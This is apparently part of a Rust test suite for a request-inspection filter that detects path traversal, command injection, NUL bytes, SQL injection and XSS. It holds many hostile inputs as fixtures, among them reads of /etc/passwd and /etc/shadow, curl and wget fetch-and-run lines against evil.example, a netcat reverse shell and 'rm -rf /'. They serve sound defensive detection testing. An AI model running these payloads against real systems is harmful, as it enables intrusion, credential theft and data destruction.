            ("/etc/passwd", "/etc/passwd"),
            ("file:///etc/passwd", "/etc/passwd"),
            ("'/etc/shadow", "/etc/shadow"),
            ("x=/proc/self/environ", "/proc/self/"),
            ("C:/Windows/System32/drivers/etc/hosts", "/Windows/System32/"),
            ("/WEB-INF/web.xml", "/WEB-INF/web.xml"),
            // Extension truncation.
            ("shell.php\0.jpg", ".php\\0.jpg"),
            ("../../etc/passwd%00", "../"),
            ("report%00.pdf", "\\0.pdf"),
        ] {
            check(rule, attack, Some((Rule::PathTraversal, evidence)));
        }
        for benign in [
            "./images/logo.svg",
            "images/2024/photo.jpg",
            "...",
            "..",
            "Wait... what?",
            "Loading.../",
            "The file is in the ../shared folder",
            "import Button from '../../components/Button';",
            "cd .. && cd ../..",
            "Edit /etc/hosts to add the name.",
            "https://example.com/etc/passwd-reset",
            "/etc/passwords.txt",
            "C:\\Users\\Public\\report.docx",
            "https://example.com/a/b/c.html",
            "v1.2..3",
            "ab\0c",
        ] {
            check(rule, benign, None);
        }
    }

    #[test]
    fn command_injection() {
        let rule = RuleSet::only(Rule::CommandInjection);
        for (attack, evidence) in [
            ("; cat /etc/passwd", "; cat"),
            ("127.0.0.1; cat /etc/passwd", "; cat"),
            ("x | id", "| id"),
            ("x|id", "|id"),
            ("x;id;", ";id"),
            ("1 && wget http://evil.example/x.sh", "&& wget"),
            ("1 || curl evil.example | sh", "|| curl"),
            ("$(whoami)", "$(whoami"),
            ("name$(id)", "$(id"),
            ("a$( cat /etc/passwd )", "$( cat"),
            ("`id`", "`id"),
            ("x`uname -a`", "`uname"),
            ("foo\n rm -rf /", "\\n rm"),
            ("foo\ncat /etc/passwd", "\\ncat"),
            ("x; /bin/cat /etc/passwd", "; /bin/cat"),
            ("x;cat${IFS}/etc/passwd", ";cat"),
            ("x & ping -n 10 127.0.0.1", "& ping"),
            ("x; ping evil.example", "; ping"),
            ("x; sleep 10", "; sleep"),
            ("| WHOAMI", "| WHOAMI"),
            ("x & type C:\\boot.ini", "& type"),
            ("x | powershell.exe -enc AAAA", "| powershell.exe"),
            ("x; nc -e /bin/sh 10.0.0.1 4444", "; nc"),
            ("x; python -c 'import os'", "; python"),
            // Encoded once more than the gateway decodes.
            ("x%3B%20cat%20%2Fetc%2Fpasswd", "; cat"),
            ("x%0auname%0a", "\\nuname"),
        ] {
            check(rule, attack, Some((Rule::CommandInjection, evidence)));
        }
        for benign in [
            "Tom & Jerry",
            "C++; Java; Go",
            "$5.00",
            "a | b",
            "| id | name | email |",
            "| curl | wget |",
            "I fed the dog; cat owners will understand.",
            "The test was hard; sleep deprivation didn't help.",
            "Done; ping me when you're back",
            "I ran out of time; more details tomorrow.",
            "We had fun; echo chambers are not fun.",
            "Pets:\ncat\ndog",
            "https://example.com/?a=1&id=5&cat=2",
            "if (a && id) { go(); }",
            "$(document).ready(init);",
            "$('.btn').on('click', handler);",
            "Type `ls -la` to see hidden files.",
            "`rm -rf` is dangerous",
            "The `id` command prints your ids.",
            "```bash\nnpm install\n```",
            "To list files, run ls -la in your terminal.",
            "Use &amp;&amp; for logical AND",
            "cat-lovers; cat-lovers",
            "2>&1",
            "Salt & Pepper; Tom & Jerry; R&D",
            "x; Python is great",
            "skills: ruby; php; node",
        ] {
            check(rule, benign, None);
        }
    }

    #[test]
    fn nul_byte() {
        let rule = RuleSet::only(Rule::NulByte);
        check(rule, "abc\0def", Some((Rule::NulByte, "\\0")));
        check(rule, "abc%00def", Some((Rule::NulByte, "\\0")));
        check(rule, "abc%2500", None); // Decodes to "%00" once: the rule looks one round deep.
        check(rule, "abc&#0;", None); // References to NUL decode to U+FFFD, as in browsers.
        check(rule, "100% sure", None);
    }

    #[test]
    fn decoding_is_one_round_and_never_grows() {
        for (input, expected) in [
            ("a%20b", Some("a b")),
            ("%252e", Some("%2e")),
            ("%u002e%u002E", Some("..")),
            ("%c0%ae%c0%af", Some("./")),
            ("&lt;b&gt;&#60;&#x3c;&#0000060&amp;lt;", Some("<b><<<&lt;")),
            ("&#x110000;&#xD800;", Some("\u{fffd}\u{fffd}")),
            ("&lt &unknown; &#; &#x; %zz %u12 % &", None),
            ("50% off & more", None),
        ] {
            assert_eq!(decode_once(input).as_deref(), expected, "{input:?}");
            if let Some(out) = decode_once(input) {
                assert!(out.len() <= input.len(), "{input:?} grew to {out:?}");
            }
        }
    }

    /// Padding does not hide an attack: the whole value is read.
    #[test]
    fn a_late_attack_is_found() {
        let padded = |pad: &str, attack: &str| format!("{}{attack}", pad.repeat(200 * 1024));
        assert!(inspect_value(&padded(" ", "' OR '1'='1"), &RuleSet::ALL).is_some_and(|f| f.rule == Rule::Sqli));
        assert!(inspect_value(&padded("a", "<script>alert(1)</script>"), &RuleSet::ALL)
            .is_some_and(|f| f.rule == Rule::Xss));
        assert!(inspect_value(&padded("a", "; cat /etc/passwd"), &RuleSet::ALL).is_some());
        clean(&"a".repeat(200 * 1024));
    }

    #[test]
    fn benign_values_pass() {
        for benign in [
            "",
            "Alice",
            "Mary-Jane O'Connor",
            "alice@example.com",
            "https://example.com/products?id=42&sort=price_asc",
            "2024-03-15T09:30:00Z",
            "550e8400-e29b-41d4-a716-446655440000",
            "It's a beautiful day, isn't it?",
            "We'll need eggs, flour, sugar; also butter (unsalted, if possible).",
            "Grüß Gott! Wie geht's dir heute?",
            "こんにちは、元気ですか？",
            "SELECT is a keyword that starts a query.",
            "| Name | Age |\n|------|-----|\n| Alice | 30 |",
        ] {
            clean(benign);
        }
    }

    /// Pathological shapes must stay linear: many separators, dots, slashes,
    /// escapes and references in one maximal value.
    #[test]
    fn worst_cases_finish() {
        for unit in [";", "| ", "&&", "../", "..", "/", "%25", "&#", "&amp;", "`", "$(", "\\", "a/"] {
            let value = unit.repeat((256 << 10) / unit.len() + 1);
            let _ = inspect_value(&value, &RuleSet::ALL);
        }
    }
}
